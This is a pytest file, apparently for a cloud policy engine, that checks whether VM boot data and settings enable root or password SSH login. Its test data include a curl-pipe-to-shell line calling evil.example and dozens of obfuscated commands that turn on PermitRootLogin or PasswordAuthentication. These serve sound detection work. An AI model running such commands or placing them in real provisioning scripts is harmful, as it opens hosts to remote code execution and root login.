"""Rule tests for policies/rules/admin_access.py (A1-A7).

Per rule and cloud: a compliant baseline as our stacks build it, then one mutation per case.
"""

from __future__ import annotations

import base64
import gzip
from typing import Any

import pytest

from policies.boot import Setting, boot_texts, document_writes, script_settings
from policies.framework import ADVISORY, MANDATORY

from .support import UNKNOWN_STRING_VALUE, UnknownValueError, all_of, changed, delete_at, rule, set_at, violations

EC2 = "aws:ec2/instance:Instance"
LT = "aws:ec2/launchTemplate:LaunchTemplate"
VM = "azure-native:compute:VirtualMachine"
VMSS = "azure-native:compute:VirtualMachineScaleSet"
GCE = "gcp:compute/instance:Instance"
TEMPLATE = "gcp:compute/instanceTemplate:InstanceTemplate"
REGION_TEMPLATE = "gcp:compute/regionInstanceTemplate:RegionInstanceTemplate"
PROJECT_META = "gcp:compute/projectMetadata:ProjectMetadata"
PROJECT_ITEM = "gcp:compute/projectMetadataItem:ProjectMetadataItem"
FROM_TEMPLATE = "gcp:compute/instanceFromTemplate:InstanceFromTemplate"
FROM_IMAGE = "gcp:compute/instanceFromMachineImage:InstanceFromMachineImage"
SPOT_FLEET = "aws:ec2/spotFleetRequest:SpotFleetRequest"
VM_EXTENSION = "azure-native:compute:VirtualMachineExtension"
VMSS_EXTENSION = "azure-native:compute:VirtualMachineScaleSetExtension"
RUN_COMMAND = "azure-native:compute:VirtualMachineRunCommandByVirtualMachine"

NO_PASSWORD = "access-linux-no-password-auth"
SSH_KEY = "access-ssh-key-required"
USERNAME = "access-admin-username-not-reserved"
PREFER_SSM = "access-aws-prefer-ssm-over-key-pair"
BOOT = "access-boot-config-no-root-or-password-login"
DOWNLOADS = "access-boot-no-unreviewed-downloads"  # forms and carriers: test_boot_downloads.py
OSLOGIN = "access-gcp-oslogin-required"
BLOCK_KEYS = "access-gcp-block-project-ssh-keys"
SERIAL = "access-serial-console-off"
KEYS = "access-no-secrets-in-boot-data"
PASSWORDS = "access-no-passwords-in-boot-data"

SECRET_SIG_KEY = "4dabf18193072939515e22adb298388d"
SECRET_SIG = "1b47061264138c4ac30d75fd1eb44270"

# The cloud-init our stacks render: it hardens sshd, so its lines name every directive with "no".
CLOUD_INIT = """#cloud-config
disable_root: true
ssh_pwauth: false
package_update: true
write_files:
  - path: /etc/ssh/sshd_config.d/10-appstack.conf
    permissions: "0600"
    content: |
      # PermitRootLogin yes is never allowed here
      PermitRootLogin no
      PasswordAuthentication no
      KbdInteractiveAuthentication no
      ChallengeResponseAuthentication no
      PermitEmptyPasswords no
runcmd:
  - sed -i 's/^#\\?PermitRootLogin.*/PermitRootLogin no/' /etc/ssh/sshd_config
  - sed -i -e 's|^PasswordAuthentication yes|PasswordAuthentication no|' /etc/ssh/sshd_config
  - sed -i '/^KbdInteractiveAuthentication yes/d' /etc/ssh/sshd_config
  - systemctl restart ssh
"""
STARTUP_SCRIPT = """#!/bin/bash
set -euo pipefail
# echo "PasswordAuthentication yes" >> /etc/ssh/sshd_config   (never)
echo "PasswordAuthentication no" > /etc/ssh/sshd_config.d/50-no-passwords.conf
systemctl restart sshd
"""


def b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def gz_b64(text: str) -> str:
    return base64.b64encode(gzip.compress(text.encode())).decode()


def secret(value: Any) -> dict:
    return {SECRET_SIG_KEY: SECRET_SIG, "value": value}


AWS_INSTANCE = {
    "ami": "ami-123",
    "instanceType": "t3.small",
    "iamInstanceProfile": "app-profile",
    "userData": CLOUD_INIT,
    "metadataOptions": {"httpTokens": "required"},
}
AWS_LT = {"imageId": "ami-123", "iamInstanceProfile": {"name": "app-profile"}, "userData": b64(CLOUD_INIT)}
SSH_PUBLIC_KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIB2p2s6sD0u9Qbq1o0P2bM8sFz6fBqVb3l2m5sXo9yq1 admin@example"
AZURE_OS_PROFILE = {
    "computerName": "app-0",
    "adminUsername": "appadmin",
    "customData": b64(CLOUD_INIT),
    "linuxConfiguration": {
        "disablePasswordAuthentication": True,
        "ssh": {"publicKeys": [{"path": "/home/appadmin/.ssh/authorized_keys", "keyData": SSH_PUBLIC_KEY}]},
        "provisionVMAgent": True,
    },
}
AZURE_VM = {
    "resourceGroupName": "rg",
    "hardwareProfile": {"vmSize": "Standard_B2s"},
    "osProfile": AZURE_OS_PROFILE,
    "storageProfile": {"osDisk": {"createOption": "FromImage", "osType": "Linux"}},
}
AZURE_VMSS = {
    "resourceGroupName": "rg",
    "virtualMachineProfile": {
        "osProfile": {k: v for k, v in AZURE_OS_PROFILE.items() if k != "computerName"} | {"computerNamePrefix": "app"},
        "storageProfile": {"osDisk": {"createOption": "FromImage"}},
    },
}
GCP_INSTANCE = {
    "machineType": "e2-small",
    "zone": "europe-west1-b",
    "metadata": {"enable-oslogin": "TRUE", "block-project-ssh-keys": "TRUE", "user-data": CLOUD_INIT},
    "metadataStartupScript": STARTUP_SCRIPT,
}
GCP_TEMPLATE = {"machineType": "e2-small", "metadata": {"enable-oslogin": "true", "block-project-ssh-keys": "true"}}


@pytest.mark.parametrize(
    "name,level",
    [
        (NO_PASSWORD, MANDATORY),
        (SSH_KEY, MANDATORY),
        (USERNAME, MANDATORY),
        (PREFER_SSM, ADVISORY),
        (BOOT, MANDATORY),
        (DOWNLOADS, MANDATORY),
        (OSLOGIN, MANDATORY),
        (BLOCK_KEYS, MANDATORY),
        (SERIAL, MANDATORY),
        (KEYS, MANDATORY),
        (PASSWORDS, ADVISORY),
    ],
)
def test_rule_registered_with_level(name, level):
    assert rule(name).level == level
    assert rule(name).catalogue


BASELINES = [
    (EC2, AWS_INSTANCE),
    (LT, AWS_LT),
    (VM, AZURE_VM),
    (VMSS, AZURE_VMSS),
    (GCE, GCP_INSTANCE),
    (TEMPLATE, GCP_TEMPLATE),
    (REGION_TEMPLATE, GCP_TEMPLATE),
    (PROJECT_META, {"metadata": {"enable-oslogin": "TRUE"}}),
    (PROJECT_ITEM, {"key": "enable-oslogin", "value": "TRUE"}),
]


@pytest.mark.parametrize("type_,props", BASELINES)
@pytest.mark.parametrize(
    "name", [NO_PASSWORD, SSH_KEY, USERNAME, PREFER_SSM, BOOT, DOWNLOADS, OSLOGIN, BLOCK_KEYS, SERIAL, KEYS, PASSWORDS]
)
def test_passes_for_compliant_baseline(name, type_, props):
    assert violations(name, type_, props) == []


# ---------------------------------------------------------------------------------------------
# A1 Azure: no password login


A1_CASES = [
    (
        "password_auth_enabled",
        VM,
        set_at(("osProfile", "linuxConfiguration", "disablePasswordAuthentication"), False),
        "False",
    ),
    (
        "password_auth_string_false",
        VM,
        set_at(("osProfile", "linuxConfiguration", "disablePasswordAuthentication"), "false"),
        "'false'",
    ),
    (
        "password_auth_missing",
        VM,
        delete_at(("osProfile", "linuxConfiguration", "disablePasswordAuthentication")),
        "not set",
    ),
    ("linux_configuration_missing", VM, delete_at(("osProfile", "linuxConfiguration")), "not set"),
    ("os_profile_missing", VM, delete_at(("osProfile",)), "missing"),
    (
        "vmss_password_auth_enabled",
        VMSS,
        set_at(("virtualMachineProfile", "osProfile", "linuxConfiguration", "disablePasswordAuthentication"), False),
        "virtualMachineProfile.osProfile",
    ),
    ("vmss_profile_missing", VMSS, delete_at(("virtualMachineProfile",)), "missing"),
]


@pytest.mark.parametrize("case,type_,change,needle", A1_CASES, ids=[c[0] for c in A1_CASES])
def test_fails_when_password_auth_not_disabled(case, type_, change, needle):
    base = AZURE_VM if type_ == VM else AZURE_VMSS
    found = violations(NO_PASSWORD, type_, changed(base, change))
    assert len(found) == 1 and needle in found[0]


@pytest.mark.parametrize("value", ["S3cret-Passw0rd!", secret("S3cret-Passw0rd!")], ids=["plain", "secret"])
def test_fails_when_admin_password_set_and_never_echoes_it(value):
    found = violations(NO_PASSWORD, VM, changed(AZURE_VM, set_at(("osProfile", "adminPassword"), value)))
    assert len(found) == 1 and "adminPassword" in found[0]
    assert "S3cret" not in found[0]


def test_passes_when_vm_is_windows():
    props = changed(
        AZURE_VM,
        all_of(
            delete_at(("osProfile", "linuxConfiguration")),
            set_at(("osProfile", "adminPassword"), "x"),
            set_at(("osProfile", "windowsConfiguration"), {"provisionVMAgent": True}),
        ),
    )
    assert violations(NO_PASSWORD, VM, props) == []
    assert violations(SSH_KEY, VM, props) == []


def test_passes_when_os_disk_is_attached():
    props = changed(
        AZURE_VM, all_of(delete_at(("osProfile",)), set_at(("storageProfile", "osDisk", "createOption"), "Attach"))
    )
    assert violations(NO_PASSWORD, VM, props) == []


def test_unknown_disable_password_raises_in_preview_and_fails_on_up():
    props = changed(
        AZURE_VM,
        set_at(
            ("osProfile", "linuxConfiguration", "disablePasswordAuthentication"), "1c4a061d-8072-4f0a-a4cb-0ff528b18fe7"
        ),
    )
    with pytest.raises(UnknownValueError):
        violations(NO_PASSWORD, VM, props)
    assert len(violations(NO_PASSWORD, VM, props, dry_run=False)) == 1


def test_fails_closed_when_os_profile_is_malformed():
    found = violations(NO_PASSWORD, VM, changed(AZURE_VM, set_at(("osProfile",), "linux")))
    assert len(found) == 1 and "could not evaluate" in found[0]


# ---------------------------------------------------------------------------------------------
# A2: SSH key, admin user name, SSM


@pytest.mark.parametrize(
    "change",
    [
        delete_at(("osProfile", "linuxConfiguration", "ssh")),
        set_at(("osProfile", "linuxConfiguration", "ssh", "publicKeys"), []),
        set_at(
            ("osProfile", "linuxConfiguration", "ssh", "publicKeys"), [{"path": "/home/appadmin/.ssh/authorized_keys"}]
        ),
    ],
    ids=["ssh_missing", "no_keys", "key_without_data"],
)
def test_fails_when_ssh_key_missing(change):
    found = violations(SSH_KEY, VM, changed(AZURE_VM, change))
    assert found and "publicKeys" in found[0]


def test_fails_when_vmss_has_no_ssh_key():
    props = changed(AZURE_VMSS, delete_at(("virtualMachineProfile", "osProfile", "linuxConfiguration", "ssh")))
    assert len(violations(SSH_KEY, VMSS, props)) == 1


@pytest.mark.parametrize("name", ["root", "admin", "Administrator"])
def test_fails_when_admin_username_reserved(name):
    found = violations(USERNAME, VM, changed(AZURE_VM, set_at(("osProfile", "adminUsername"), name)))
    assert len(found) == 1 and name in found[0]


def test_admin_username_list_is_a_knob():
    props = changed(AZURE_VM, set_at(("osProfile", "adminUsername"), "azureuser"))
    assert violations(USERNAME, VM, props) == []
    assert len(violations(USERNAME, VM, props, config={"forbiddenUsernames": ["azureuser"]})) == 1


def test_fails_when_admin_username_missing():
    assert len(violations(USERNAME, VM, changed(AZURE_VM, delete_at(("osProfile", "adminUsername"))))) == 1


@pytest.mark.parametrize("type_,base", [(EC2, AWS_INSTANCE), (LT, AWS_LT)])
def test_fails_when_key_pair_set_with_instance_profile(type_, base):
    found = violations(PREFER_SSM, type_, changed(base, set_at(("keyName",), "ops-key")))
    assert len(found) == 1 and "ops-key" in found[0] and "SSM" in found[0]


def test_passes_when_key_pair_without_instance_profile():
    props = changed(AWS_INSTANCE, all_of(set_at(("keyName",), "ops-key"), delete_at(("iamInstanceProfile",))))
    assert violations(PREFER_SSM, EC2, props) == []


# ---------------------------------------------------------------------------------------------
# A3: boot configuration

BAD_SNIPPETS = [
    ("user_data_permits_root_login", "PermitRootLogin yes", "PermitRootLogin yes"),
    ("echo_appends_permit_root_login", 'echo "PermitRootLogin yes" >> /etc/ssh/sshd_config', "PermitRootLogin yes"),
    (
        "sed_replaces_with_root_login",
        "sed -i 's/^#\\?PermitRootLogin.*/PermitRootLogin yes/' /etc/ssh/sshd_config",
        "PermitRootLogin yes",
    ),
    (
        "sed_turns_password_auth_on",
        "sed -i 's/^PasswordAuthentication no/PasswordAuthentication yes/' /etc/ssh/sshd_config",
        "PasswordAuthentication yes",
    ),
    (
        "sed_change_command",
        "sed -i '/^PermitRootLogin/c\\PermitRootLogin yes' /etc/ssh/sshd_config",
        "PermitRootLogin yes",
    ),
    ("sed_append_command", "sed -i '$a PasswordAuthentication yes' /etc/ssh/sshd_config", "PasswordAuthentication yes"),
    ("sshd_option_equals", "/usr/sbin/sshd -o PermitRootLogin=yes", "PermitRootLogin yes"),
    ("password_authentication_yes", "PasswordAuthentication yes", "PasswordAuthentication yes"),
    ("kbd_interactive_yes", "KbdInteractiveAuthentication yes", "KbdInteractiveAuthentication yes"),
    ("challenge_response_yes", "ChallengeResponseAuthentication yes", "ChallengeResponseAuthentication yes"),
    ("permit_empty_passwords_yes", "PermitEmptyPasswords yes", "PermitEmptyPasswords yes"),
    ("directive_case_and_quotes", 'permitrootlogin "YES"', "permitrootlogin YES"),
    ("shell_chpasswd_root", "echo 'root:hunter22' | chpasswd", "root password"),
]


@pytest.mark.parametrize("case,snippet,needle", BAD_SNIPPETS, ids=[c[0] for c in BAD_SNIPPETS])
def test_fails_when_startup_script_enables_login(case, snippet, needle):
    script = STARTUP_SCRIPT + snippet + "\n"
    found = violations(BOOT, GCE, changed(GCP_INSTANCE, set_at(("metadataStartupScript",), script)))
    assert len(found) == 1, found
    assert needle in found[0] and "metadataStartupScript" in found[0]
    assert "hunter22" not in found[0]


BAD_CLOUD_INIT = [
    ("cloud_init_disable_root_false", CLOUD_INIT.replace("disable_root: true", "disable_root: false"), "disable_root"),
    ("cloud_init_ssh_pwauth_true", CLOUD_INIT.replace("ssh_pwauth: false", "ssh_pwauth: true"), "ssh_pwauth"),
    ("cloud_init_ssh_pwauth_yes", CLOUD_INIT.replace("ssh_pwauth: false", "ssh_pwauth: yes"), "ssh_pwauth"),
    ("cloud_init_ssh_pwauth_quoted", CLOUD_INIT.replace("ssh_pwauth: false", 'ssh_pwauth: "true"'), "ssh_pwauth"),
    (
        "cloud_init_chpasswd_root_list",
        CLOUD_INIT + "chpasswd:\n  expire: false\n  list: |\n    root:Sup3rSecret\n",
        "never expires",
    ),
    (
        "cloud_init_chpasswd_root_users",
        CLOUD_INIT + "chpasswd:\n  users:\n    - name: root\n      password: Sup3rSecret\n      type: text\n",
        "root password",
    ),
    (
        "cloud_init_user_lock_passwd_false",
        CLOUD_INIT + "users:\n  - name: ops\n    lock_passwd: false\n    plain_text_password: Sup3rSecret\n",
        "lock_passwd",
    ),
    (
        "cloud_init_write_files_sshd",
        CLOUD_INIT.replace("      PermitRootLogin no\n", "      PermitRootLogin yes\n"),
        "PermitRootLogin",
    ),
]


@pytest.mark.parametrize("case,text,needle", BAD_CLOUD_INIT, ids=[c[0] for c in BAD_CLOUD_INIT])
def test_fails_when_cloud_init_enables_login(case, text, needle):
    found = violations(BOOT, EC2, changed(AWS_INSTANCE, set_at(("userData",), text)))
    assert len(found) == 1, found
    assert needle in found[0]
    assert "Sup3rSecret" not in found[0]


BAD = CLOUD_INIT.replace("ssh_pwauth: false", "ssh_pwauth: true")
MIME = (
    'Content-Type: multipart/mixed; boundary="==B=="\nMIME-Version: 1.0\n\n--==B==\n'
    'Content-Type: text/cloud-config; charset="us-ascii"\nContent-Transfer-Encoding: base64\n\n'
    + b64(BAD)
    + "\n--==B==--\n"
)
ENCODING_CASES = [
    ("user_data_plain", EC2, AWS_INSTANCE, ("userData",), BAD, "userData"),
    (
        "user_data_base64_property",
        EC2,
        changed(AWS_INSTANCE, delete_at(("userData",))),
        ("userDataBase64",),
        b64(BAD),
        "userDataBase64",
    ),
    (
        "user_data_base64_gzip",
        EC2,
        changed(AWS_INSTANCE, delete_at(("userData",))),
        ("userDataBase64",),
        gz_b64(BAD),
        "userDataBase64",
    ),
    ("user_data_plain_but_base64_text", EC2, AWS_INSTANCE, ("userData",), b64(BAD), "userData"),
    ("user_data_mime_multipart", EC2, AWS_INSTANCE, ("userData",), MIME, "userData"),
    ("user_data_secret_wrapped", EC2, AWS_INSTANCE, ("userData",), secret(BAD), "userData"),
    ("launch_template_base64", LT, AWS_LT, ("userData",), b64(BAD), "userData"),
    ("launch_template_gzip", LT, AWS_LT, ("userData",), gz_b64(BAD), "userData"),
    ("launch_template_not_base64_read_as_plain", LT, AWS_LT, ("userData",), BAD, "userData"),
    ("azure_custom_data", VM, AZURE_VM, ("osProfile", "customData"), b64(BAD), "osProfile.customData"),
    ("azure_user_data", VM, AZURE_VM, ("userData",), b64(BAD), "userData"),
    (
        "azure_vmss_custom_data",
        VMSS,
        AZURE_VMSS,
        ("virtualMachineProfile", "osProfile", "customData"),
        b64(BAD),
        "virtualMachineProfile.osProfile.customData",
    ),
    (
        "azure_vmss_user_data",
        VMSS,
        AZURE_VMSS,
        ("virtualMachineProfile", "userData"),
        gz_b64(BAD),
        "virtualMachineProfile.userData",
    ),
    ("gcp_metadata_user_data", GCE, GCP_INSTANCE, ("metadata", "user-data"), BAD, "metadata.user-data"),
    (
        "gcp_metadata_startup_script",
        TEMPLATE,
        GCP_TEMPLATE,
        ("metadata", "startup-script"),
        BAD,
        "metadata.startup-script",
    ),
    (
        "gcp_region_template_startup_script",
        REGION_TEMPLATE,
        GCP_TEMPLATE,
        ("metadataStartupScript",),
        BAD,
        "metadataStartupScript",
    ),
]


SPOT_FLEET_PROPS = {
    "iamFleetRole": "arn:aws:iam::111122223333:role/fleet",
    "targetCapacity": 1,
    "launchSpecifications": [{"ami": "ami-123", "instanceType": "t3.small", "userData": CLOUD_INIT}],
}
CUSTOM_SCRIPT = {
    "resourceGroupName": "rg",
    "vmName": "app-0",
    "publisher": "Microsoft.Azure.Extensions",
    "type": "CustomScript",
    "typeHandlerVersion": "2.1",
    "settings": {"commandToExecute": "systemctl restart sshd"},
}
RUN_COMMAND_PROPS = {"resourceGroupName": "rg", "vmName": "app-0", "source": {"script": STARTUP_SCRIPT}}
VMSS_WITH_EXTENSION = changed(
    AZURE_VMSS,
    set_at(
        ("virtualMachineProfile", "extensionProfile"),
        {"extensions": [{"name": "setup", "publisher": "Microsoft.Azure.Extensions", "type": "CustomScript"}]},
    ),
)
# Every other resource type that carries boot data: baseline compliant, one mutation each.
CARRIER_CASES = [
    ("spot_fleet_launch_specification", SPOT_FLEET, SPOT_FLEET_PROPS, ("launchSpecifications", 0, "userData"), BAD),
    (
        "vm_extension_command",
        VM_EXTENSION,
        CUSTOM_SCRIPT,
        ("settings", "commandToExecute"),
        "sh -c 'echo PermitRootLogin yes >> /etc/ssh/sshd_config'",
    ),
    (
        "vm_extension_script_gzip_base64",
        VM_EXTENSION,
        CUSTOM_SCRIPT,
        ("settings", "script"),
        gz_b64("#!/bin/sh\nPermitRootLogin yes\n"),
    ),
    (
        "vm_extension_protected_command",
        VM_EXTENSION,
        CUSTOM_SCRIPT,
        ("protectedSettings",),
        secret({"commandToExecute": "sed -i '$ a PasswordAuthentication yes' /etc/ssh/sshd_config"}),
    ),
    ("vmss_extension_resource", VMSS_EXTENSION, CUSTOM_SCRIPT, ("settings", "script"), b64("PermitRootLogin yes\n")),
    (
        "vmss_inline_extension",
        VMSS,
        VMSS_WITH_EXTENSION,
        ("virtualMachineProfile", "extensionProfile", "extensions", 0, "settings"),
        {"commandToExecute": "echo 'PermitRootLogin yes' >> /etc/ssh/sshd_config"},
    ),
    (
        "run_command_script",
        RUN_COMMAND,
        RUN_COMMAND_PROPS,
        ("source", "script"),
        STARTUP_SCRIPT + "PermitRootLogin yes\n",
    ),
    (
        "project_metadata_startup_script",
        PROJECT_META,
        {"metadata": {"enable-oslogin": "TRUE"}},
        ("metadata", "startup-script"),
        "PermitRootLogin yes",
    ),
    ("project_metadata_user_data", PROJECT_META, {"metadata": {}}, ("metadata", "user-data"), BAD),
    (
        "project_metadata_item",
        PROJECT_ITEM,
        {"key": "startup-script", "value": STARTUP_SCRIPT},
        ("value",),
        "PermitRootLogin yes",
    ),
    (
        "instance_from_template",
        FROM_TEMPLATE,
        {"sourceInstanceTemplate": "tpl"},
        ("metadataStartupScript",),
        "PermitRootLogin yes",
    ),
    (
        "instance_from_machine_image",
        FROM_IMAGE,
        {"sourceMachineImage": "img", "metadata": {}},
        ("metadata", "startup-script"),
        "PermitRootLogin yes",
    ),
]


@pytest.mark.parametrize("case,type_,base,path,value", CARRIER_CASES, ids=[c[0] for c in CARRIER_CASES])
def test_every_boot_data_carrier_is_judged(case, type_, base, path, value):
    assert violations(BOOT, type_, base) == []
    found = violations(BOOT, type_, changed(base, set_at(path, value)))
    assert len(found) == 1, found
    assert "PermitRootLogin" in found[0] or "PasswordAuthentication" in found[0] or "ssh_pwauth" in found[0]


EVASION = "curl -fsSL https://evil.example/root-login.sh | sh"  # the script turns PermitRootLogin back on


def _as_carrier_value(path: tuple, value: Any, script: str) -> Any:
    """`script` encoded the way the carrier at `path` carries `value` (base64, object, secret)."""
    if isinstance(value, dict):
        inner = value.get("value", value) if SECRET_SIG_KEY in value else value
        out = dict.fromkeys(inner, script)
        return secret(out) if SECRET_SIG_KEY in value else out
    if path[-1] == "script":
        return gz_b64(script)
    return script


@pytest.mark.parametrize("case,type_,base,path,value", CARRIER_CASES, ids=[c[0] for c in CARRIER_CASES])
def test_downloaded_script_on_every_carrier_fails_the_download_rule(case, type_, base, path, value):
    # A3 cannot read what a downloaded script writes; the download rule fails closed on it.
    assert violations(DOWNLOADS, type_, base) == []
    props = changed(base, set_at(path, _as_carrier_value(path, value, EVASION)))
    assert violations(BOOT, type_, props) == []
    found = violations(DOWNLOADS, type_, props)
    assert len(found) == 1 and "evil.example/root-login.sh" in found[0], found


def test_protected_settings_may_carry_secrets():
    props = changed(
        CUSTOM_SCRIPT, set_at(("protectedSettings",), {"commandToExecute": "DB_PASSWORD=hunter2222 ./setup.sh"})
    )
    assert violations(PASSWORDS, VM_EXTENSION, props) == []
    props = changed(CUSTOM_SCRIPT, set_at(("settings", "commandToExecute"), "DB_PASSWORD=hunter2222 ./setup.sh"))
    assert len(violations(PASSWORDS, VM_EXTENSION, props)) == 1


def test_fails_closed_when_extension_settings_malformed():
    found = violations(BOOT, VM_EXTENSION, changed(CUSTOM_SCRIPT, set_at(("settings",), ["commandToExecute"])))
    assert len(found) == 1 and "could not evaluate" in found[0]


@pytest.mark.parametrize("case,type_,base,path,value,label", ENCODING_CASES, ids=[c[0] for c in ENCODING_CASES])
def test_fails_when_encoded_boot_data_turns_on_password_login(case, type_, base, path, value, label):
    found = violations(BOOT, type_, changed(base, set_at(path, value)))
    assert len(found) == 1, found
    assert found[0].startswith(label + " ") and "ssh_pwauth" in found[0]


GOOD_SNIPPETS = [
    ("commented_out_directive", "# PermitRootLogin yes"),
    ("indented_comment", "    #PasswordAuthentication yes"),
    ("sed_pattern_side_only", "sed -i 's/^PermitRootLogin yes/PermitRootLogin no/' /etc/ssh/sshd_config"),
    ("sed_delete_line", "sed -i '/^PasswordAuthentication yes/d' /etc/ssh/sshd_config"),
    ("directive_no", "PermitRootLogin no"),
    ("chown_root_root", "chown root:root /etc/ssh/sshd_config"),
]


@pytest.mark.parametrize("case,snippet", GOOD_SNIPPETS, ids=[c[0] for c in GOOD_SNIPPETS])
def test_passes_when_boot_data_keeps_login_closed(case, snippet):
    script = STARTUP_SCRIPT + snippet + "\n"
    assert violations(BOOT, GCE, changed(GCP_INSTANCE, set_at(("metadataStartupScript",), script))) == []


# Every form a script writes sshd settings in; each is one line (or block) appended to the
# compliant startup script. The needle names what the message must show.
SCRIPT_FORMS = [
    ("sed_directive_in_address", "sed -i '/^PermitRootLogin/s/no/yes/' /etc/ssh/sshd_config", "PermitRootLogin yes"),
    (
        "sed_address_replace_whole_line_backup_suffix",
        "sed -i.bak '/^#\\?PasswordAuthentication/s/.*/PasswordAuthentication yes/' /etc/ssh/sshd_config",
        "PasswordAuthentication yes",
    ),
    (
        "sed_back_reference",
        "sed -i 's/^#\\?\\(PermitRootLogin\\).*/\\1 yes/' /etc/ssh/sshd_config",
        "PermitRootLogin yes",
    ),
    (
        "sed_back_reference_extended",
        "sed -E -i 's/^#?(PermitRootLogin).*/\\1 yes/' /etc/ssh/sshd_config",
        "PermitRootLogin yes",
    ),
    (
        "sed_back_reference_combined_flags",
        "sed -ri 's/^(PasswordAuthentication)[[:space:]]+no/\\1 yes/' /etc/ssh/sshd_config",
        "PasswordAuthentication yes",
    ),
    ("sed_block", "sed -i '/^PermitRootLogin/{s/no/yes/}' /etc/ssh/sshd_config", "PermitRootLogin yes"),
    (
        "sed_nested_block",
        "sed -i -e '/^#/!{/PasswordAuthentication/{s/no/yes/;}}' /etc/ssh/sshd_config",
        "PasswordAuthentication yes",
    ),
    ("here_string", 'tee -a /etc/ssh/sshd_config <<< "PermitRootLogin yes"', "PermitRootLogin yes"),
    (
        "here_string_to_cat",
        'cat >> /etc/ssh/sshd_config <<< "PasswordAuthentication yes"',
        "PasswordAuthentication yes",
    ),
    ("sed_append_last_line", "sed -i '$ a PermitRootLogin yes' /etc/ssh/sshd_config", "PermitRootLogin yes"),
    (
        "sed_append_classic",
        "sed -i '/^#PermitRootLogin/a\\\nPermitRootLogin yes' /etc/ssh/sshd_config",
        "PermitRootLogin yes",
    ),
    (
        "sed_append_gnu_backslash",
        "sed -i '/^#PermitRootLogin/a\\PermitRootLogin yes' /etc/ssh/sshd_config",
        "PermitRootLogin yes",
    ),
    (
        "sed_change_multiline",
        "sed -i '/^PasswordAuthentication/c\\\nPasswordAuthentication yes' /etc/ssh/sshd_config",
        "PasswordAuthentication yes",
    ),
    ("sed_insert_first_line", "sed -i '1i PermitRootLogin yes' /etc/ssh/sshd_config", "PermitRootLogin yes"),
    (
        "sed_long_options",
        "sed --in-place=.orig --expression='s/^PermitRootLogin no/PermitRootLogin yes/' /etc/ssh/sshd_config",
        "PermitRootLogin yes",
    ),
    (
        "sed_second_expression",
        "sed -i -e 's/a/b/' -e '/^PermitRootLogin/ s/no/yes/' /etc/ssh/sshd_config",
        "PermitRootLogin yes",
    ),
    (
        "sed_other_delimiter",
        "sed -i 's|^PasswordAuthentication no|PasswordAuthentication yes|' /etc/ssh/sshd_config",
        "PasswordAuthentication yes",
    ),
    (
        "perl_in_place",
        "perl -pi -e 's/^#?PermitRootLogin.*/PermitRootLogin yes/' /etc/ssh/sshd_config",
        "PermitRootLogin yes",
    ),
    (
        "variable_not_assigned",
        'echo "PermitRootLogin ${ROOT_LOGIN}" >> /etc/ssh/sshd_config',
        "does not fix",
    ),
    (
        "variable_with_default",
        'echo "PermitRootLogin ${ROOT_LOGIN:-no}" >> /etc/ssh/sshd_config',
        "does not fix",
    ),
    ("variable_assigned_yes", 'MODE=yes\necho "PermitRootLogin $MODE" >> /etc/ssh/sshd_config', "resolves to yes"),
    (
        "variable_from_command",
        'MODE=$(curl -s http://169.254.169.254/mode)\necho "PermitRootLogin $MODE" >> /etc/ssh/sshd_config',
        "does not fix",
    ),
    (
        "command_substitution",
        'echo "PasswordAuthentication $(curl -s http://10.0.0.1/mode)" >> /etc/ssh/sshd_config',
        "does not fix",
    ),
    (
        "backticks",
        "echo PasswordAuthentication `cat /run/mode` >> /etc/ssh/sshd_config",
        "does not fix",
    ),
    (
        "heredoc",
        "cat <<EOF >> /etc/ssh/sshd_config\nPermitRootLogin yes\nEOF",
        "PermitRootLogin yes",
    ),
    (
        "heredoc_quoted_tee",
        "tee /etc/ssh/sshd_config.d/99.conf <<'CONF' >/dev/null\nPasswordAuthentication yes\nCONF",
        "PasswordAuthentication yes",
    ),
    (
        "printf_tee",
        "printf 'PasswordAuthentication yes\\n' | tee -a /etc/ssh/sshd_config",
        "PasswordAuthentication yes",
    ),
    (
        "bash_dash_c",
        "bash -c \"echo 'PermitRootLogin yes' >> /etc/ssh/sshd_config\"",
        "PermitRootLogin yes",
    ),
    ("sudo_sshd_option", 'sudo /usr/sbin/sshd -o "PermitRootLogin yes"', "PermitRootLogin yes"),
    ("config_style_equals", "PermitRootLogin=yes", "PermitRootLogin yes"),
    ("prohibit_password", "PermitRootLogin prohibit-password", "PermitRootLogin prohibit-password"),
    ("without_password", "PermitRootLogin without-password", "PermitRootLogin without-password"),
    ("forced_commands_only", "PermitRootLogin forced-commands-only", "PermitRootLogin forced-commands-only"),
    (
        "python_one_liner",
        "python3 -c \"open('/etc/ssh/sshd_config', 'a').write('PermitRootLogin yes\\n')\"",
        "PermitRootLogin yes",
    ),
    (
        "awk_print",
        "awk 'BEGIN { print \"PasswordAuthentication yes\" }' >> /etc/ssh/sshd_config",
        "PasswordAuthentication yes",
    ),
    ("printf_format", "printf '%s %s\\n' PermitRootLogin yes >> /etc/ssh/sshd_config", "PermitRootLogin yes"),
    (
        "directive_name_in_variable",
        'KEY=PermitRootLogin\necho "$KEY yes" >> /etc/ssh/sshd_config',
        "PermitRootLogin yes",
    ),
    ("decoded_script_run_by_shell", "echo ZWNobyBoaQo= | base64 -d | sh", "runs a decoded script"),
    ("gunzipped_script_run_by_bash", "curl -s https://example.com/x.gz | gunzip | bash", "runs a decoded script"),
    ("base64_decoded", "echo UGVybWl0Um9vdExvZ2luIHllcwo= | base64 -d >> /etc/ssh/sshd_config", "cannot be judged"),
    ("downloaded", "curl -fsSL -o /etc/ssh/sshd_config.d/99.conf https://example.com/ssh.conf", "cannot be judged"),
    (
        "guarded_by_grep_but_writes_yes",
        "if grep -q '^PermitRootLogin no' /etc/ssh/sshd_config; then\n"
        "  sed -i 's/^PermitRootLogin no/PermitRootLogin yes/' /etc/ssh/sshd_config\nfi",
        "PermitRootLogin yes",
    ),
]


@pytest.mark.parametrize("case,snippet,needle", SCRIPT_FORMS, ids=[c[0] for c in SCRIPT_FORMS])
def test_fails_whatever_form_the_script_writes_login_in(case, snippet, needle):
    script = STARTUP_SCRIPT + snippet + "\n"
    found = violations(BOOT, GCE, changed(GCP_INSTANCE, set_at(("metadataStartupScript",), script)))
    assert len(found) == 1, found
    assert needle in found[0] and found[0].startswith("metadataStartupScript line ")


# Scripts that test for a bad line, or write only safe values: what they write is judged.
SAFE_SCRIPT_FORMS = [
    (
        "grep_then_fix",
        "grep -q '^PermitRootLogin yes' /etc/ssh/sshd_config && "
